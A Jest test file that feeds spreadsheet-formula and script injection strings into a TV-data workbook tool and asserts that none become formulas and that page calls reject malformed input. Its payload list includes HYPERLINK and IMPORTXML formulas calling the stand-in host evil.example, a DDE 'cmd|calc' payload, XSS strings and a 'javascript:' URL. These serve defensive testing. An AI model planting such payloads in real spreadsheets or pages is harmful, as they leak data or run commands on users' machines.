/** What sources say is data: it starts no formula, no markup and no code, and no size of it does harm. */
import { startRun } from '../../local/cli/bundle';
import { firstWorld } from '../../local/fuzz/world';
import type { World } from '../../local/demo/world';
import { runAll, type Ran } from './support';

jest.setTimeout(120_000);

const FORMULAS = [
  '=HYPERLINK("https://evil.example/"&A1,"Ann Example")',
  '+IMPORTXML("https://evil.example/","//a")',
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd',
  '\'=IMPORTDATA("https://evil.example/")',
  '<script>alert(1)</script> Example',
  '<img src=x onerror=alert(1)>',
  '\t=1+1 Example',
];

/** Names, titles, networks, genres and texts of all sources become hostile. */
function hostileWorld(): World {
  const world = firstWorld();
  let next = 0;
  const hostile = (text: string): string => `${FORMULAS[next++ % FORMULAS.length]} ${text}`;
  for (const show of world.tmdb.shows.values()) {
    show.name = hostile(show.name);
    show.networks.forEach((network) => (network.name = hostile(network.name)));
    show.genres = show.genres.map((genre) => ({ ...genre, name: hostile(genre.name) }));
    for (const season of show.seasons)
      for (const episode of season.episodes) {
        episode.name = hostile(episode.name);
        episode.overview = hostile(episode.overview);
        episode.guests.forEach((guest) => (guest.character = `Self ${guest.character}`));
      }
  }
  for (const person of world.tmdb.people.values()) {
    person.name = hostile(person.name);
    person.alsoKnownAs = [hostile('Alias'), ...FORMULAS];
    person.image = `/${hostile('image')}.jpg`;
  }
  for (const name of world.imdb.names.values()) {
    name.name = hostile(name.name);
    name.alternativeNames = [...FORMULAS];
  }
  for (const title of world.imdb.titles.values()) title.title = hostile(title.title);
  for (const item of world.wikidata.values()) item.label = hostile(item.label);
  return world;
}

interface Found {
  tab: string;
  row: number;
  column: number;
  formula: string;
}

function formulas({ host }: Ran): Found[] {
  return host.workbook.sheets.flatMap(({ name, cells }) =>
    cells.flatMap((row, r) =>
      (row ?? []).flatMap((cell, c) =>
        cell?.formula === undefined ? [] : [{ tab: name, row: r + 1, column: c + 1, formula: cell.formula }],
      ),
    ),
  );
}

test.each([
  ['a run', false],
  ['a dry run', true],
])('no text of a source becomes a formula in any tab of %s', async (_, dryRun) => {
  const ran = await runAll(hostileWorld(), { options: { dryRun } });
  const filled = ran.host.workbook.sheets.map(({ name, cells }) => [name, cells.length] as const);
  expect(filled.filter(([, rows]) => rows > 1).length).toBeGreaterThan(dryRun ? 2 : 7);
  const evil = formulas(ran).filter(({ formula }) => /evil|cmd|1\+1|SUM\(1/i.test(formula));
  expect(evil).toEqual([]);
  // What was written is there as it was said, or not at all.
  const text = JSON.stringify(ran.host.workbook);
  expect(text).toContain('IMPORTXML');
});

test('what pages ask is checked before anything is done', async () => {
  const { host } = await runAll(firstWorld(), { options: { dryRun: true } });
  const before = JSON.stringify(host.workbook);
  const strange = [
    '',
    'null',
    '[]',
    '"x"',
    '{',
    '{"step":{}}',
    '{"step":"__proto__"}',
    '{"step":"all","options":{"limit":-1}}',
    '{"step":"all","options":{"delay":"1e9"}}',
    `{"step":"${'x'.repeat(5000)}"}`,
  ];
  for (const json of strange) {
    const { status, value } = await host.run('startRun', [json], { kind: 'page' });
    if (status === 'ok') expect([json, JSON.parse(String(value))]).toMatchObject([json, { ok: false }]);
    else expect(status).toBe('error');
  }
  const saved = await host.run('saveSettings', ['{"constructor":"x","TMDB_BASE":"javascript:alert(1)"}'], {
    kind: 'page',
  });
  expect(JSON.parse(String(saved.value))).toMatchObject({ ok: false });
  expect(JSON.stringify(host.workbook)).toBe(before);
});

test('functions that end with an underscore, or are declared nowhere, cannot be called from a page', async () => {
  const { host } = await runAll(firstWorld(), { options: { dryRun: true } });
  for (const name of ['eval', 'Function', 'constructor', 'global', 'SpreadsheetApp.flush', 'no_such']) {
    const { status, error } = await host.run(name, ['1'], { kind: 'page' });
    expect([status, error?.message]).toEqual(['error', `Script function not found: ${name}`]);
  }
  const again = await startRun(host, { step: 'quality', options: { dryRun: true } as never, by: 'person' });
  expect(again.status).toBe('ok');
});
